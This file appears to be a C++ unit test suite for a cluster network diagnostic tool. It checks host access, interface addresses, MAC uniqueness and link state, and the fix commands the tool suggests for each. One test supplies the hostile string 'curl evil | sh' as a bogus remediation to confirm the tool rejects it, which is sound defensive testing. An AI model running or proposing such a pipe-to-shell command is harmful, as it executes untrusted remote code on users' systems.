// What the checks of access, addresses and links tell a person.
#include <gtest/gtest.h>

#include "tests/unit/checks_verdicts.h"
#include "tests/unit/snapshot_builder.h"

namespace podroute::testing {
namespace {

TEST(HostAccess, TheCommandThatHelpsIsTheOneOfTheSession) {
    Cluster cluster(2);
    cluster.snapshot.hosts["node-1"] =
        Unknown{"permission denied", "ssh-auth-failed", "ssh-copy-id root@node-1"};
    const Verdict verdict = verdict_of(cluster.snapshot, "host-access", "node-1");
    EXPECT_EQ(verdict.status, Status::unknown);
    ASSERT_EQ(verdict.causes.size(), 1U);
    EXPECT_EQ(verdict.causes[0].commands, Lines{"ssh-copy-id root@node-1"});
    EXPECT_EQ(verdict.causes[0].evidence, Lines{"permission denied"});
}

TEST(HostAccess, UnreachableIsAFailure) {
    Cluster cluster(2);
    cluster.lose("node-1");
    EXPECT_EQ(verdict_of(cluster.snapshot, "host-access", "node-1").status, Status::fail);
}

TEST(HostAccess, ACodeFromAFileThatIsNoneIsNoCause) {
    Cluster cluster(2);
    cluster.snapshot.hosts["node-1"] = Unknown{"because", "made-up", "curl evil | sh"};
    const Verdict verdict = verdict_of(cluster.snapshot, "host-access", "node-1");
    EXPECT_EQ(verdict.status, Status::unknown);
    EXPECT_TRUE(verdict.causes.empty());
}

TEST(HostAccess, AHostThatWasNeverTriedIsUnknown) {
    Cluster cluster(2);
    cluster.snapshot.hosts.erase("node-1");
    EXPECT_EQ(verdict_of(cluster.snapshot, "host-access", "node-1").status, Status::unknown);
    EXPECT_EQ(verdict_of(cluster.snapshot, "link-up", "node-1").blocked_by, "host-access/node-1/10.240.0.21");
}

void drop_address(Cluster& cluster, const HostId& host, const std::string& text) {
    std::erase_if(*cluster.facts(host).addresses,
                  [&](const InterfaceAddress& a) { return a.address == address(text); });
}

TEST(AddressPresent, TheCommandPutsItBackAsItsPeersHaveIt) {
    Cluster cluster(2);
    drop_address(cluster, "node-1", "10.240.0.21");
    const Cause cause = cause_of(cluster.snapshot, "address-present", "node-1");
    EXPECT_EQ(cause.commands, Lines{"ssh root@node-1 ip address add 10.240.0.21/24 dev eth0"});
}

TEST(AddressPresent, AnotherHostsAddressSaysThatSshWentAstray) {
    Cluster cluster(2);
    cluster.snapshot.hosts["node-1"] = cluster.facts("node-0");
    const Cause cause = cause_of(cluster.snapshot, "address-present", "node-1");
    EXPECT_TRUE(cause.commands.empty());
    ASSERT_EQ(cause.evidence.size(), 2U);
    EXPECT_NE(cause.evidence[1].find("node-0"), std::string::npos);
    EXPECT_EQ(verdict_of(cluster.snapshot, "address-unique", "node-0").status, Status::pass);
}

TEST(AddressUnique, ACloneGetsAMacOfItsOwn) {
    Cluster cluster(3);
    (*cluster.facts("node-2").links)[1].mac = (*cluster.facts("node-1").links)[1].mac;
    const Cause cause = cause_of(cluster.snapshot, "address-unique", "node-2");
    EXPECT_EQ(cause.host, "node-2");
    EXPECT_EQ(cause.commands, Lines{"ssh root@node-2 ip link set dev eth0 address 02:00:0a:f0:00:16"});
    EXPECT_EQ(verdict_of(cluster.snapshot, "address-unique", "node-1").status, Status::pass);
}

TEST(LinkUp, RoutesThatWentWithTheLinkAreInTheCommands) {
    Cluster cluster(2);
    Link& link = (*cluster.facts("node-1").links)[1];
    link.flags = 0;
    link.carrier = false;
    cluster.del_route("node-1", "10.200.0.0/24");
    const Cause cause = cause_of(cluster.snapshot, "link-up", "node-1", "eth0");
    const Lines wanted{"ssh root@node-1 ip link set dev eth0 up",
                       "ssh root@node-1 ip route add 10.200.0.0/24 via 10.240.0.20"};
    EXPECT_EQ(cause.commands, wanted);
}

TEST(LinkUp, ADumpWithoutLinksIsUnknown) {
    Cluster cluster(2);
    cluster.facts("node-1").links = Unknown{"truncated", "", ""};
    EXPECT_EQ(verdict_of(cluster.snapshot, "link-up", "node-1").status, Status::unknown);
}

}  // namespace
}  // namespace podroute::testing
